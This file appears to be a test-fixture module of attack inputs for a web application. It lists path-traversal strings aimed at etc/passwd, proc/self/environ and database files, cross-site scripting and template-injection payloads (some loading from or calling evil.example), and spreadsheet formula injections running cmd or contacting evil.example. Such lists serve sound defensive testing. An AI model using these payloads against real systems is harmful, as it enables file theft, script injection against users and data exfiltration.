# ruff: noqa: E501 — lists of attacks, several a line
"""What outsiders try: scripts in texts, paths out of folders, formulas in cells."""

from __future__ import annotations

from urllib.parse import quote

_TARGETS = ("etc/passwd", "pyproject.toml", "web/users.sqlite", "ledger.sqlite", "proc/self/environ")
_STEPS = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "....//", "..;/", "%252e%252e%252f", "..%c0%af")

PATHS: list[str] = [
    *(step * depth + target for step in _STEPS for depth in (1, 3, 6, 9) for target in _TARGETS),
    *("/" + target for target in _TARGETS), *("//" + target for target in _TARGETS),
    "file:///etc/passwd", "C:\\windows\\win.ini", "%00", "frame.css%00.png", ".", "..", "...", "~", "~root", "-", "%2e",
    "con", "nul", "a" * 3000, "%ff%fe", "?x", quote("../" * 5 + "etc/passwd", safe=""), "..%u2215etc", "\u2025/etc",
]  # fmt: skip

SCRIPTS: list[str] = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<math><mi//xlink:href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>", "<style>@import '//evil.example'</style>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "{{7*7}}", "{% raw %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__}}", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "<scr<script>ipt>alert(1)</script>",
    "<img src=`x`onerror=alert(1)>", "<svg><animate onbegin=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<noscript><img src=x onerror=alert(1)></noscript>", "<template><script>alert(1)</script></template>",
    "<img srcset=x onerror=alert(1)>", "<p style=background:url(javascript:alert(1))>", "<x onclick=alert(1)>x",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "＜script＞alert(1)＜/script＞", "<script>fetch('//evil.example')</script>",
    "[x](javascript:alert(1))", "![x](x onerror=alert(1))",
]  # fmt: skip

FORMULAS: list[str] = [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1+1",
    "+cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "@cmd", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "  +1+cmd", "=IMPORTXML(\"//evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "=A1", "=\"x\"",
    "＝1+1", "＋1", "－1+2", "＠SUM(1)", "=1+1;=2", "+", "-", "=", "@", "-A1", "+A1", "--1", "++1", "=-1", "-2+3+cmd",
    "@@x", "=IMAGE(\"//evil.example/x.png\")", "+1,2,3", "-(1)", "=TRUE", "\u00a0=1+1",
]  # fmt: skip
